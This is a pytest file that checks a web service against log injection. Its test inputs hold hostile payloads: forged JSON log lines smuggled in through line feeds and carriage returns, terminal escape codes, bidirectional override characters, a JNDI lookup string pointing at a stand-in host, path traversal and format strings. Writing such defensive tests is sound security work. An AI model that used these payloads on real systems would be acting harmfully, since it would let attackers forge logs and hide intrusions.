"""Log injection (CWE-117): input that would forge or disguise log lines."""

import json
import re
import uuid
from typing import Any

import pytest

from tests.hostile.raw_http import (
    Target,
    content_length,
    new_token,
    parametrize_cases,
    post_task,
    request_with_id,
)
from tests.support import SECRET, wait_until
from tools.tokens import mint

ESCAPE = "\x1b[2J\x1b[31m"
FORGED = '{"level":"ERROR","message":"%s"}'

# Terminal control characters, line separators and bidirectional formatting.
CONTROL_CHARACTERS = re.compile(
    "[\x00-\x09\x0b-\x1f\x7f-\x9f\u200e\u200f\u2028\u2029\u202a-\u202e\u2066-\u2069\ufeff]"
)

REQUEST_ID = re.compile(r"[0-9a-f]{32}")


def log_entry(target: Target, request_id: str) -> dict[str, Any]:
    """Wait for the log line of a request and parse it; it must hold no invisible characters."""
    mark = f'"request_id": "{request_id}"'
    wait_until(lambda: mark in target.log(), "the request is not logged")
    [line] = [line for line in target.log().split("\n") if mark in line]
    assert CONTROL_CHARACTERS.search(line) is None, line
    log_entry: dict[str, Any] = json.loads(line)
    return log_entry


PATHS = {
    "line feed": f"/api/tasks/%0A{FORGED % 'forged'}".replace('"', "%22"),
    "carriage return": "/api/tasks/%0D%0Aforged",
    "escape": "/api/tasks/%1B%5B31mforged",
    "right to left": "/api/tasks/%E2%80%AEforged",
    "line separator": "/api/tasks/%E2%80%A8forged",
    "backspace": "/api/tasks/forged%08%08",
    "NUL": "/api/tasks/forged%00",
    "format": "/api/tasks/%25s%25(forged)s{forged}",
    "lookup": "/api/tasks/${jndi:ldap://forged.example}",
    "query": "/api/tasks?forged=%0A",
    "unknown": "/forged%0A",
    "long": f"/api/tasks/forged{'a' * 3900}",
}


@parametrize_cases(PATHS)
@pytest.mark.spec("process.logs")
def test_paths_are_not_logged(target: Target, case: str) -> None:
    name = str(uuid.uuid4())
    answer = target.send(
        request_with_id(name, f"GET {case} HTTP/1.1", f"Authorization: Bearer {new_token('owner')}")
    )
    assert answer.status_code in {404, 422}
    assert log_entry(target, name).get("route") in {None, "/api/tasks", "/api/tasks/{task_id}"}
    assert "forged" not in target.log()


FIELDS = ["User-Agent", "Referer", "Cookie", "Origin", "X-Forwarded-For", "Accept", "Content-Type", "Expect"]


@pytest.mark.parametrize("field", FIELDS)
def test_headers_are_not_logged(target: Target, field: str) -> None:
    name = str(uuid.uuid4())
    target.send(
        request_with_id(name, "GET /health/live HTTP/1.1", f"{field}: forged\xe2\x80\xae\x85\xa0%0A${{x}}")
    )
    log_entry(target, name)
    assert "forged" not in target.log()


@pytest.mark.parametrize("line", ["GET /forged HTTP/9.9", "FOR(GED / HTTP/1.1", "GET /\x1bforged HTTP/1.1"])
def test_malformed_requests_are_not_logged(target: Target, line: str) -> None:
    target.exchange(request_with_id("first", line))
    assert "forged" not in target.log().lower()


REQUEST_IDS = {
    "line feed, encoded": "a%0Ab",
    "space": "a b",
    "tab": "a\tb",
    "quote": 'a","level":"ERROR',
    "backslash": "a\\nb",
    "byte above ASCII": "a\xe9b",
    "NEL": "a\x85b",
    "right to left": "a\xe2\x80\xaeb",
    "full-width": "\xef\xbc\x91",
    "129 characters": "a" * 129,
    "8,000 characters": "a" * 8000,
    "empty": "",
    "slash": "../../etc/passwd",
    "markup": "<b>",
    "list": "a,b",
}


@parametrize_cases(REQUEST_IDS)
@pytest.mark.spec("headers.request-id")
def test_a_malformed_request_id_is_replaced(target: Target, case: str) -> None:
    answer = target.send(request_with_id(case, "GET /nowhere HTTP/1.1"))
    given = answer.headers["x-request-id"]
    assert REQUEST_ID.fullmatch(given)
    assert answer.json()["instance"] == given
    assert log_entry(target, given)["status"] == 404


@pytest.mark.spec("headers.request-id")
def test_two_request_ids_are_replaced(target: Target) -> None:
    answer = target.send(request_with_id("one", "GET /nowhere HTTP/1.1", "x-request-id: two"))
    assert REQUEST_ID.fullmatch(answer.headers["x-request-id"])


SUBJECTS = {
    "right to left": "owner-\u202egnp.exe",
    "isolates": "owner-\u2066\u2067\u2068\u2069",
    "marks": "owner-\u200e\u200f",
    "line separator": f"owner-\u2028{FORGED % 'spoofed'}",
    "paragraph separator": f"owner-\u2029{FORGED % 'spoofed'}",
    "byte-order mark": "\ufeffowner",
    "quotes": 'owner-","level":"ERROR","x":"',
    "backslashes": "owner-\\n\\u001b[31m",
    "formats": "owner-%s%d{0}{user_id}${x}",
    "markup": "<script>owner</script>",
    "beyond the basic plane": "\U0001f600" * 255,
    "combining marks": "o" + "\u0301" * 254,
    "tag characters": "owner-\U000e0041\U000e007f",
    "non-characters": "owner-\uffff\ufdd0",
}


@parametrize_cases(SUBJECTS)
@pytest.mark.spec("process.logs")
def test_a_subject_is_logged_without_invisible_characters(target: Target, case: str) -> None:
    name = str(uuid.uuid4())
    token = mint(SECRET, case)
    answer = target.send(request_with_id(name, "GET /api/tasks HTTP/1.1", f"Authorization: Bearer {token}"))
    assert answer.status_code == 200
    assert log_entry(target, name)["user_id"] == case


@pytest.mark.parametrize(
    "subject", ["owner\nforged", "owner\rforged", f"owner{ESCAPE}forged", "owner\x9b31mforged", "forged" * 50]
)
@pytest.mark.spec("auth.sub")
def test_a_subject_with_control_characters_is_refused(target: Target, subject: str) -> None:
    name = str(uuid.uuid4())
    token = mint(SECRET, subject)
    answer = target.send(request_with_id(name, "GET /api/tasks HTTP/1.1", f"Authorization: Bearer {token}"))
    assert answer.status_code == 401
    assert "user_id" not in log_entry(target, name)
    assert "forged" not in target.log()


@pytest.mark.spec("process.logs.secrets")
def test_bodies_are_not_logged(target: Target, owner_token: str) -> None:
    for text in (f'{{"title": "forged\\n{ESCAPE!r}', '{"title": "forged", "forged": 1}', '["forged"]'):
        name = str(uuid.uuid4())
        body = text.encode()
        assert target.send(post_task(name, owner_token, content_length(body), body=body)).status_code in {
            400,
            422,
        }
        log_entry(target, name)
    assert "forged" not in target.log()


def test_an_unusual_method_is_logged_as_sent(target: Target) -> None:
    name = str(uuid.uuid4())
    target.send(request_with_id(name, "X~|^`%$!'*+.-_ /nowhere HTTP/1.1"))
    assert log_entry(target, name)["method"] == "X~|^`%$!'*+.-_"
